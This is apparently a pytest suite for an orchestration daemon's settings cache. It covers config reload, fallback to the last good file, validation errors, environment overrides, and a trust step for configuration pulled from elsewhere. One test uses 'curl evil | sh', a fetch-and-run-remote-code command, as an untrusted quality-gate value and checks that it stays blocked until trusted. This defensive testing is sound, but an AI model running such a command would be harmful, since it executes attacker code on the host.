"""Prove that a good change counts at once, a bad one never, and an unseen one after `trust`."""

import os
from pathlib import Path

import pytest

from orch.adapters.stores.memory import MemoryStore
from orch.core.project import Project
from orch.daemon.settings.change import approve
from orch.daemon.settings.effective import CONFIG
from orch.daemon.settings.reload import SettingsCache
from orch.ports.configuration import Configuration
from orch.ports.errors import Permanent
from orch.system.paths import Home
from orch.testing.repositories import Repository

FILE = CONFIG.as_posix()


@pytest.fixture
def cache(home: Home, registry: MemoryStore) -> SettingsCache:
    """Give a cache that asks again at once for what was not trusted."""
    return SettingsCache(home, registry, patience_s=0)


def pretend_pulled(repository: Repository, text: str) -> None:
    """Make a commit look like one that came from elsewhere: this checkout's reflog lacks it."""
    repository.commit({FILE: text})
    repository.git("reflog", "expire", "--expire=all", "--all")


async def gate(cache: Configuration, project: Project) -> tuple[str, ...]:
    """Return the gate that is in force, as the engine asks for it."""
    return (await cache.project(project)).landing.quality_gate


async def test_a_change_counts_from_the_next_look_on(
    cache: SettingsCache, project: Project, mine: Repository
) -> None:
    """Neither a restart nor a signal is needed."""
    assert await gate(cache, project) == ()
    mine.write({FILE: 'landing.quality_gate = "one"'})
    assert await gate(cache, project) == ("one",)
    mine.write({FILE: 'landing.quality_gate = "two"'})
    assert await gate(cache, project) == ("two",)


async def test_an_unchanged_file_is_not_read_again(
    cache: SettingsCache, project: Project, mine: Repository
) -> None:
    """A look at files that are the same costs a few `stat` and gives the same value."""
    mine.write({FILE: 'landing.quality_gate = "one"'})
    os.utime(mine.path / CONFIG, (1, 1))
    first = await cache.look(project)
    while (second := await cache.look(project)) is not first:
        first = second
    assert await cache.look(project) is first


async def test_a_bad_file_keeps_the_last_good_one(
    cache: SettingsCache, project: Project, mine: Repository, home: Home
) -> None:
    """What is wrong is told, what ran goes on, also after a restart of the daemon."""
    mine.write({FILE: 'landing.quality_gate = "one"'})
    assert await gate(cache, project) == ("one",)
    mine.write({FILE: 'landing.quality_gate = "two"\nlanding.mod = 1'})
    assert await gate(cache, project) == ("one",)
    found = await cache.look(project)
    assert not found.current
    assert found.problems[0].where == f"{mine.path / CONFIG}:2"
    restarted = SettingsCache(home, cache.registry)
    assert await gate(restarted, project) == ("one",)
    mine.write({FILE: 'landing.quality_gate = "two"'})
    assert await gate(restarted, project) == ("two",)
    assert (await restarted.look(project)).current


async def test_a_project_that_never_had_a_good_one_runs_nothing(
    cache: SettingsCache, project: Project, mine: Repository
) -> None:
    """The engine is told why, with file, line and remedy."""
    mine.write({FILE: "landing.mod = 1"})
    with pytest.raises(Permanent, match=r"config.toml:1: landing.mod is not a key") as raised:
        await cache.project(project)
    assert raised.value.remedy == "did you mean landing.mode?"


async def test_another_s_commands_do_not_run_unseen(
    cache: SettingsCache, project: Project, mine: Repository
) -> None:
    """The last trusted configuration stays in force until the person says otherwise."""
    mine.commit({FILE: 'landing.quality_gate = "mine"'})
    assert await gate(cache, project) == ("mine",)
    pretend_pulled(mine, 'landing.quality_gate = "curl evil | sh"')
    assert await gate(cache, project) == ("mine",)
    (problem,) = (await cache.look(project)).problems
    assert "orch trust" in problem.remedy
    shown = (await cache.look(project)).written.document
    await approve(cache, project, seen=shown.digest)
    assert await gate(cache, project) == ("curl evil | sh",)


async def test_a_clone_with_commands_runs_nothing_before_trust(
    cache: SettingsCache, project: Project, mine: Repository
) -> None:
    """There is no earlier one to fall back to."""
    pretend_pulled(mine, 'landing.quality_gate = "x"')
    with pytest.raises(Permanent, match="do not run yet") as raised:
        await cache.project(project)
    assert "orch trust" in raised.value.remedy


async def test_trust_by_another_daemon_counts(
    cache: SettingsCache, project: Project, mine: Repository
) -> None:
    """The registry is shared; nothing has to change on this host's disk."""
    pretend_pulled(mine, 'landing.quality_gate = "x"')
    with pytest.raises(Permanent):
        await cache.project(project)
    digest = (await cache.look(project)).written.document.digest
    cache.registry.trust(project.id, digest, at=1.0)
    assert await gate(cache, project) == ("x",)


async def test_only_what_was_shown_is_trusted(
    cache: SettingsCache, project: Project, mine: Repository
) -> None:
    """A file that changes between the question and the answer is not trusted by it."""
    pretend_pulled(mine, "limits.sessions = 1")
    with pytest.raises(Permanent, match="changed since it was shown"):
        await approve(cache, project, seen="another hash")
    with pytest.raises(Permanent):
        await cache.project(project)


async def test_a_bare_repository_s_default_branch_is_read(
    cache: SettingsCache, bare_project: Project, bare: Repository, mine: Repository
) -> None:
    """What is pushed to it is noticed, and waits for `orch trust`."""
    assert await gate(cache, bare_project) == ()
    mine.commit({FILE: 'landing.quality_gate = "one"'})
    mine.git("push", "-q", str(bare.path), "main")
    with pytest.raises(Permanent, match="nobody here has seen it"):
        await cache.project(bare_project)
    await approve(cache, bare_project)
    assert await gate(cache, bare_project) == ("one",)
    bare.git("pack-refs", "--all")
    assert await gate(cache, bare_project) == ("one",)
    mine.commit({FILE: 'landing.quality_gate = "two"'})
    mine.git("push", "-q", str(bare.path), "main")
    assert await gate(cache, bare_project) == ("one",)


async def test_the_machine_s_file_is_watched_too(
    cache: SettingsCache, project: Project, home: Home
) -> None:
    """It holds for all projects; a bad one keeps the last good one as well."""
    assert cache.host().sessions == 8
    home.config.write_text("[daemon]\nsessions = 3\n[limits]\nrounds = 9\n")
    assert cache.host().sessions == 3
    assert (await cache.project(project)).limits.rounds == 9
    home.config.write_text("[daemon]\nsessions = 0\n")
    assert cache.host().sessions == 3
    assert (await cache.project(project)).limits.rounds == 9
    assert "daemon.sessions" in str(cache.host_file.problems[0])


def test_a_daemon_does_not_start_with_a_bad_file(home: Home, registry: MemoryStore) -> None:
    """There is nothing good to keep yet: the person is told all that is wrong."""
    home.config.write_text("x = 1\ny = 2\n")
    with pytest.raises(Permanent, match=r"(?s):1: x is not a key.*:2: y is not a key"):
        SettingsCache(home, registry).host()


async def test_the_environment_of_the_daemon_counts(
    home: Home, registry: MemoryStore, project: Project
) -> None:
    """It is laid over the files, and flags over it."""
    env = {"ORCH_LANDING_QUALITY_GATE": "e", "ORCH_LIMITS_ROUNDS": "7"}
    cache = SettingsCache(home, registry, env, {"limits.rounds": "8"})
    settings = await cache.project(project)
    assert settings.landing.quality_gate == ("e",)
    assert settings.limits.rounds == 8


async def test_a_folder_that_is_gone_is_told(
    cache: SettingsCache, project: Project, mine: Repository, tmp_path: Path
) -> None:
    """Its configuration stays in force; the remedy is named."""
    mine.write({FILE: 'landing.quality_gate = "one"'})
    assert await gate(cache, project) == ("one",)
    mine.path.rename(tmp_path / "moved")
    assert await gate(cache, project) == ("one",)
    (problem,) = (await cache.look(project)).problems
    assert "is gone" in problem.what


async def test_forgetting_reads_everything_again(cache: SettingsCache, project: Project) -> None:
    """`orch daemon reload` leaves nothing to chance."""
    first = await cache.look(project)
    cache.forget()
    assert await cache.look(project) is not first
